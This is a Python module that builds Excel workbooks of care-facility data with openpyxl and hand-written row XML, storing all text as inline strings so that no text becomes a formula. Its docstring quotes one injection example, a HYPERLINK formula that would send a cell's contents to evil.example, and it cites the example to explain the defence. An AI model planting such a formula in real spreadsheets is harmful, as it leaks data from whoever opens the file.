"""Writing sheets fast and safely: openpyxl (write-only) lays out each sheet — widths, panes, print settings, styles,
the chart — and every row is written by us as XML, text always as an inline string.

Why both: openpyxl needs about 3 seconds for the 200,000 cells of 3,300 facilities, and it turns any text that
starts with "=" into a live formula (`=HYPERLINK("http://evil.example/?d="&B4,…)` typed as a facility name would
become a link). So openpyxl writes one empty row (it writes a sheet's top — panes, columns — at its first row), and
`assemble` puts our rows in its place: values are numbers, inline strings (never formulas) or, only where we say
so, our own formulas with their cached value (SUBTOTAL totals), so a reader without recalculation (python-calamine,
pandas) still sees numbers. The long tables give each column's style once (`Sheet.values`), not each cell's look.
"""

from __future__ import annotations

import io
import math
import re
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any
from xml.sax.saxutils import escape

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.compat import safe_string
from openpyxl.styles import Alignment
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.pagebreak import Break, ColBreak

from kaigo_xl.municipal.text import display_width
from kaigo_xl.workbook import styles
from kaigo_xl.xlsx.cellpatch import cell_xml, inline_string, sheet_members
from kaigo_xl.xlsx.save import workbook_bytes

FORMATS = {"yen": "#,##0", "fte": "0.00", "count": "0"}
_STUB = re.compile(rb'<row r="1"\s*(?:/>|>\s*</row>)')


@dataclass(frozen=True)
class Formula:
    """A formula we wrote ourselves, with the value it gives (cached, for readers that do not recalculate)."""

    text: str
    value: int | Decimal


@dataclass(frozen=True)
class Look:
    kind: str = "text"  # text | yen | fte | count
    bold: bool = False
    header: bool = False
    title: bool = False
    wrap: bool = False
    center: bool = False


class Styles:
    """The style id (`s` attribute) openpyxl assigns to each look, made once per workbook."""

    def __init__(self, ws) -> None:
        self._ws = ws
        self._ids: dict[Look, str] = {}

    def ids(self, looks: Sequence[Look]) -> list[str]:
        return [self.id(look) for look in looks]

    def id(self, look: Look) -> str:
        if look not in self._ids:
            c = WriteOnlyCell(self._ws, value=0)
            c.font = styles.TITLE_FONT if look.title else styles.BOLD if (look.bold or look.header) else styles.BASE_FONT
            if look.header:
                c.fill, c.border, c.alignment = styles.HEADER, styles.BOX, styles.CENTER
            else:
                c.alignment = Alignment(wrap_text=look.wrap or None, vertical="top",
                                        horizontal="center" if look.center else None)
            if look.kind in FORMATS:
                c.number_format = FORMATS[look.kind]
            self._ids[look] = str(c.style_id)
        return self._ids[look]


Cell = tuple[Any, Look]


class _Texts(dict):
    """The inline-string XML of each text, made once (states, types and headings repeat down a table)."""

    def __missing__(self, text: str) -> str:
        xml = self[text] = inline_string(text)
        return xml


class Sheet:
    """One write-only sheet whose column widths and rows are kept as XML until the workbook is assembled."""

    def __init__(self, wb: Workbook, name: str, widths: Sequence[float], looks: Styles | None = None) -> None:
        self.ws = wb.create_sheet(name)
        self.name = name
        # the <col> elements openpyxl writes for a width; ours, since openpyxl takes ~40 µs a column (支払予定: 3,300)
        self.cols = "".join(f'<col width="{safe_string(float(w))}" customWidth="1" min="{i}" max="{i}" />'
                            for i, w in enumerate(widths, start=1))
        self.looks = looks or Styles(self.ws)
        self.texts = _Texts()
        self.row = 0
        self.rows: list[str] = []  # the XML of rows 1, 2, …

    def append(self, cells: Sequence[Cell | None], height: float | None = None) -> int:
        """Add a row (None for no cell at all); returns its number."""
        n, looks = self.row + 1, self.looks
        letters = _letters(len(cells))
        return self._add("".join([value_xml(f"{letters[i]}{n}", c[0], looks.id(c[1]))
                                  for i, c in enumerate(cells) if c is not None]), height)

    def values(self, values: Sequence[Any], styles: Sequence[str], height: float | None = None) -> int:
        """Add a row with a cell in every column: `values[i]` (None: an empty cell) in style `styles[i]` (from
        `Styles.ids`, made once per table); returns its number."""
        if len(styles) != len(values):
            raise ValueError(f"{len(values)} values, {len(styles)} styles")
        n, out, texts = self.row + 1, [], self.texts
        for letter, style, value in zip(_letters(len(values)), styles, values):
            kind = type(value)  # the common cases said directly, as cell_xml says them (bool is not int here)
            if kind is int:
                out.append(f'<c r="{letter}{n}" s="{style}"><v>{value}</v></c>')
            elif kind is str and value:
                out.append(f'<c r="{letter}{n}" s="{style}"{texts[value]}')
            elif value is None:
                out.append(f'<c r="{letter}{n}" s="{style}"/>')
            else:
                out.append(value_xml(f"{letter}{n}", value, style))
        return self._add("".join(out), height)

    def _add(self, cells_xml: str, height: float | None) -> int:
        if not self.rows:
            self.ws.append([])  # openpyxl writes the sheet's top now; `assemble` puts our rows in this row's place
        self.row += 1
        ht = f' ht="{height:g}" customHeight="1"' if height else ""
        self.rows.append(f'<row r="{self.row}"{ht}>{cells_xml}</row>')
        return self.row

    def text(self, value: str, look: Look = Look(), height: float | None = None) -> int:
        return self.append([(value, look)], height)

    def blank(self) -> int:
        return self.append([])


_LETTERS: list[str] = []


def _letters(n: int) -> list[str]:
    """The letters of columns 1 … n (at least), made once."""
    while len(_LETTERS) < n:
        _LETTERS.append(get_column_letter(len(_LETTERS) + 1))
    return _LETTERS


def value_xml(ref: str, value: Any, style: str) -> str:
    if isinstance(value, Formula):
        return f'<c r="{ref}" s="{style}"><f>{escape(value.text)}</f><v>{value.value}</v></c>'
    if isinstance(value, float):
        value = Decimal(repr(value))
    return cell_xml(ref, value, style)


HEADER_ROW = 3  # row of the column headings on every sheet (title in row 1, subtitle in row 2)
LINE_HEIGHT = 13.5  # points per line of 10-point text
TITLE, HEAD, BOLD, WRAP = Look(title=True), Look(header=True), Look(bold=True), Look(wrap=True)


def lines(text: str, width: float) -> int:
    """How many lines a text wraps to in a column of `width` units (wide characters count two)."""
    per_line = max(1.0, width - 1)
    if "\n" not in (text := text or ""):
        return max(1, math.ceil(display_width(text) / per_line))
    return sum(max(1, math.ceil(display_width(part) / per_line)) for part in text.split("\n"))


def height(*texts_and_widths: tuple[str, float]) -> float:
    """The row height that shows every wrapped text in full (at least one line)."""
    return max([1, *(lines(t, w) for t, w in texts_and_widths)]) * LINE_HEIGHT


def start_sheet(wb: Workbook, looks: Styles, name: str, title: str, subtitle: str, headers: Sequence[str],
                widths: Sequence[float], *, freeze: str = "A", header_lines: int = 3, **printing: Any) -> Sheet:
    """A sheet with its print settings (which write-only openpyxl must have before the first row), its title
    (row 1), subtitle (row 2) and headings (row 3), panes frozen below the headings."""
    sh = Sheet(wb, name, widths, looks)
    sh.ws.freeze_panes = f"{freeze}{HEADER_ROW + 1}"
    page(sh.ws, title_rows=f"{HEADER_ROW}:{HEADER_ROW}" if headers else None, **printing)
    running_title(sh.ws, title)
    sh.text(title, TITLE, 20)
    sh.append([(subtitle, Look())], height=height((subtitle, sum(widths))))
    if headers:
        sh.append([(h, HEAD) for h in headers], height=header_lines * LINE_HEIGHT)
    return sh


def running_title(ws, title: str) -> None:
    """The title again at the top of every printed page but the first (which has it in row 1), and 「2 / 5」 at the
    foot of each: a page of the twelve months, printed apart from its names, still says what it is."""
    ws.HeaderFooter.differentFirst = True
    ws.oddHeader.left.text, ws.oddHeader.left.size = title.replace("&", "&&"), 9
    ws.oddFooter.center.text = ws.firstFooter.center.text = "&P / &N"
    ws.page_margins.header = ws.page_margins.footer = 0.2


def filter_rows(sh: Sheet, columns: int) -> None:
    """An auto-filter over the headings and the rows written so far."""
    if sh.row > HEADER_ROW:
        sh.ws.auto_filter.ref = f"A{HEADER_ROW}:{get_column_letter(columns)}{sh.row}"


def page(ws, *, paper: str = "9", landscape: bool = True, fit_width: bool = True, scale: int | None = None,
         title_rows: str | None = None, title_cols: str | None = None, breaks: Sequence[int] = ()) -> None:
    """Print settings: paper 9 = A4, 8 = A3; one page wide, or a fixed scale with page breaks before the
    columns `breaks` (0-based indexes)."""
    ws.page_setup.paperSize = paper
    ws.page_setup.orientation = "landscape" if landscape else "portrait"
    if fit_width and scale is None:
        ws.sheet_properties.pageSetUpPr.fitToPage = True
        ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0
    elif scale is not None:
        ws.page_setup.scale = scale
    ws.page_margins.left = ws.page_margins.right = 0.4
    ws.page_margins.top = ws.page_margins.bottom = 0.5
    ws.print_options.horizontalCentered = True
    if title_rows:
        ws.print_title_rows = title_rows
    if title_cols:
        ws.print_title_cols = title_cols
    if breaks:
        ws.col_breaks = ColBreak(brk=[Break(id=b) for b in breaks])


def assemble(wb: Workbook, sheets: Sequence[Sheet]) -> bytes:
    """The .xlsx bytes: openpyxl's package with each sheet's empty rows replaced by our rows."""
    data = workbook_bytes(wb, fixed_time=None)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = sheet_members(zf)
        parts = [(info, zf.read(info.filename)) for info in zf.infolist()]
    ours = {members[sh.name]: sh for sh in sheets}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, part in parts:
            if info.filename in ours:
                part = _fill(part, ours[info.filename])
            zf.writestr(info.filename, part)
    return out.getvalue()


def _fill(xml: bytes, sh: Sheet) -> bytes:
    """The sheet's XML with our columns where openpyxl puts them (after sheetFormatPr) and our rows in place of
    the one empty row openpyxl wrote."""
    start = xml.index(b"<sheetData>") + len(b"<sheetData>")
    end = xml.index(b"</sheetData>", start)
    if not _STUB.fullmatch(xml, start, end) or b"<cols>" in xml[:start]:
        raise ValueError(f"unexpected sheet from openpyxl: {xml[:start][-200:]!r}")
    cols = xml.index(b"/>", xml.index(b"<sheetFormatPr")) + 2
    body = "".join(sh.rows).encode("utf-8")
    return b"".join([xml[:cols], f"<cols>{sh.cols}</cols>".encode() if sh.cols else b"", xml[cols:start], body,
                     xml[end:]])
